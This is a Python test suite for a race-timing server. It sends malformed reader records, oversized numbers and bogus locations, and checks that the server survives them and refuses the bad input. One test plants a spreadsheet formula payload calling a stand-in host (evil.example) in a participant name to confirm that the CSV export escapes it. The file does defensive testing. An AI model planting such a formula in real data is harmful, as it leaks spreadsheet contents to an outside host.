"""Numbers a reader sends cannot corrupt the race: probes against a real ``pursuit serve`` process."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import time

import orjson
import websockets

from pursuit.redis_server import free_port
from tests.helpers import eventually, note
from tests.helpers.served import Served, errors_at, hms, send_lines, serve

FAR_FUTURE_MS = 1_000_000_000_000_000  # a finish in the year 33658


async def test_mylaps_ut_far_future_negative_or_400_digits_is_refused_and_every_api_still_answers(served: Served):
    p = served.race.participants[5]
    chip, bib = p.chips[0], p.bib
    now_ms = int(time.time() * 1000)
    hostile = [f"c={chip}|ut={FAR_FUTURE_MS}", f"c={chip}|ut=-5000", f"c={chip}|ut={'9' * 400}"]
    data = b"".join(f"finish@Passing@{rec}@{i}@$".encode() for i, rec in enumerate(hostile, 1))
    data += f"marbeuf@Passing@c={chip}|ut={now_ms}@9@$".encode()  # a good read after them, same connection
    got = await send_lines(served.mylaps_port, data, lambda b: b"AckPassing@9@$" in b)
    assert b"AckPassing@9@$" in got, "the connection outlived the hostile records"
    assert served.alive()

    async def counted() -> bool:
        return (
            await errors_at(served, "finish") >= 3 and (await served.store.redis.hlen(served.store.keys.crossings)) > 0
        )

    await eventually(counted)
    crossings = await served.store.redis.hgetall(served.store.keys.crossings)
    assert list(crossings) == [f"{bib}|marbeuf".encode()], "only the good read is stored"

    async def applied() -> bool:
        runner = await served.http.get(f"/api/runners/{bib}")
        assert runner.status_code == 200, runner.text
        return runner.json().get("status") != "won"

    await eventually(applied)
    results = await served.http.get("/api/results.csv")
    assert results.status_code == 200, results.text


async def test_a_sequence_number_of_10_to_18_does_not_poison_resume(served: Served):
    chip = served.race.participants[3].chips[0]
    t = hms(served.race, time.time())
    greet = b"Reader~1.0~CTP01\r\n"
    first = await send_lines(served.ct_port, greet, lambda b: b"getlocations" in b)
    assert b"getlocations" in first

    async def session(lines: bytes) -> bytes:
        reader, writer = await asyncio.open_connection("127.0.0.1", served.ct_port)
        try:
            writer.write(greet)
            got = b""
            while b"getlocations" not in got:
                got += await asyncio.wait_for(reader.read(4096), 10)
            writer.write(b"ack~getlocations~start\r\n")
            got = b""
            while b"start~start" not in got:
                got += await asyncio.wait_for(reader.read(4096), 10)
            writer.write(lines)
            await writer.drain()
            return got
        finally:
            writer.close()
            with contextlib.suppress(ConnectionError):
                await writer.wait_closed()

    poison = f"CT01_33~999999999999999999~start~{chip}~{t}~0~R~1\r\nCT01_33~1~start~{chip}~{t}~0~R~1\r\n"
    await session(poison.encode())
    await eventually(lambda: served.store.last_sequences(["start"]))
    await eventually(lambda: _at_least(errors_at(served, "start"), 1))
    resumed = await session(b"")
    assert b"start~start~2\r\n" in resumed, resumed


async def _at_least(value, n: int) -> bool:  # type: ignore[no-untyped-def]
    return (await value) >= n


async def test_thousands_of_made_up_locations_add_nothing_to_redis(served: Served):
    t = hms(served.race, time.time())
    lines = "".join(f"CT01_33~{i}~loc{i}~ABC123~{t}~0~R~1\r\n" for i in range(1, 2001)).encode()
    await send_lines(served.ct_port, lines)
    store = served.store

    async def all_refused() -> bool:
        rejected = await store.redis.hget(store.keys.ingest, "errors")
        return rejected is not None and int(rejected) >= 2000

    await eventually(all_refused, timeout_s=30)
    assert await store.redis.hlen(store.keys.reader_seq) == 0, "no sequence kept for a location that is no mat"
    unplaced = (await served.http.get("/api/readers")).json()["unplaced"]
    assert unplaced["errors"] >= 2000 and "is no mat of race" in unplaced["last_error"], "shown, not only counted"
    assert served.alive()


async def test_a_race_result_passing_in_the_year_9999_is_skipped_and_its_number_kept(redis_server, redis, tmp_path):
    port = free_port()
    race_now = time.time()
    decoder = FakeRaceResultDecoder()
    server = await asyncio.start_server(decoder.serve, "127.0.0.1", port)
    extra = f'[[readers.raceresult]]\nmat = "finish"\nhost = "127.0.0.1"\nport = {port}'
    try:
        async with serve(redis_server, redis, tmp_path, extra) as served:
            chips = [p.chips[0] for p in served.race.participants[10:13]]
            decoder.passings = [
                f"1;{chips[0]};0000-00-00;{hms(served.race, race_now)}",
                f"2;{chips[1]};9999-12-31;600000",  # OverflowError in the parser before
                f"3;{chips[2]};0000-00-00;{hms(served.race, race_now + 1)}",
            ]
            store = served.store

            async def resumed_past_it() -> bool:
                return (await store.last_sequences(["raceresult:finish"])).get("raceresult:finish") == 3

            await eventually(resumed_past_it, timeout_s=20)
            assert served.alive(), served.log()
            crossings = await store.redis.hkeys(store.keys.crossings)
            bibs = {served.race.bib_for_chip(c) for c in (chips[0], chips[2])}
            assert {c.decode() for c in crossings} == {f"{b}|finish" for b in bibs}
            assert await errors_at(served, "finish") >= 1
            assert (await served.http.get("/healthz")).status_code == 200
    finally:
        server.close()
        await server.wait_closed()


class FakeRaceResultDecoder:
    """A RACE RESULT decoder's TCP protocol, serving ``passings`` (the lines after the number)."""

    def __init__(self) -> None:
        self.passings: list[str] = []

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while line := (await reader.readline()).decode().strip():
                if line.startswith(("SETPROTOCOL", "SETPUSHPASSINGS")):
                    writer.write(f"{line};OK\r\n".encode())
                elif line == "GETTIME":
                    writer.write(b"ERROR\r\n")
                elif line == "PASSINGS":
                    writer.write(f"PASSINGS;{len(self.passings)}\r\n".encode())
                elif ":" in line:
                    first, count = map(int, line.split(":"))
                    chosen = self.passings[first - 1 : first - 1 + count]
                    writer.write("".join(f"{p}\r\n" for p in chosen).encode() + b"\r\n")
                await writer.drain()
        except ConnectionError:
            pass
        finally:
            writer.close()


async def test_an_events_id_beyond_2_to_the_64_is_a_400_and_the_stream_goes_on(served: Served):
    huge = "18446744073709551616-0"
    for path in (f"/api/events?after={huge}", f"/api/events/stream?after={huge}"):
        answer = await served.http.get(path)
        assert answer.status_code == 400, (path, answer.status_code, answer.text)
    ws_url = f"ws://127.0.0.1:{served.web_port}/ws/events"
    async with websockets.connect(ws_url) as hostile:
        await hostile.send(orjson.dumps({"after": huge}).decode())
        reply = orjson.loads(await asyncio.wait_for(hostile.recv(), 10))
        assert reply.get("type") == "error", reply
    async with websockets.connect(f"{ws_url}?after=0-0") as listener:
        await served.store.append_event(note(time.time(), "probe after the hostile id"))
        while True:
            event = orjson.loads(await asyncio.wait_for(listener.recv(), 10))
            if event.get("text") == "probe after the hostile id":
                break
    assert served.alive()


async def test_a_name_like_a_formula_is_text_in_results_csv(redis_server, redis, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'

    def rename(directory) -> None:  # type: ignore[no-untyped-def]
        path = directory / "participants.csv"
        lines = path.read_text().splitlines()
        bib, chip, _name, *rest = lines[2].split(",")
        lines[2] = ",".join([bib, chip, '"' + formula.replace('"', '""') + '"', *rest])
        path.write_text("\n".join(lines) + "\n")

    async with serve(redis_server, redis, tmp_path, prepare=rename) as served:
        body = (await served.http.get("/api/results.csv")).text
    rows = list(csv.reader(io.StringIO(body)))
    names = [row[2] for row in rows[1:]]
    assert "'" + formula in names, "the formula goes out as text"
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
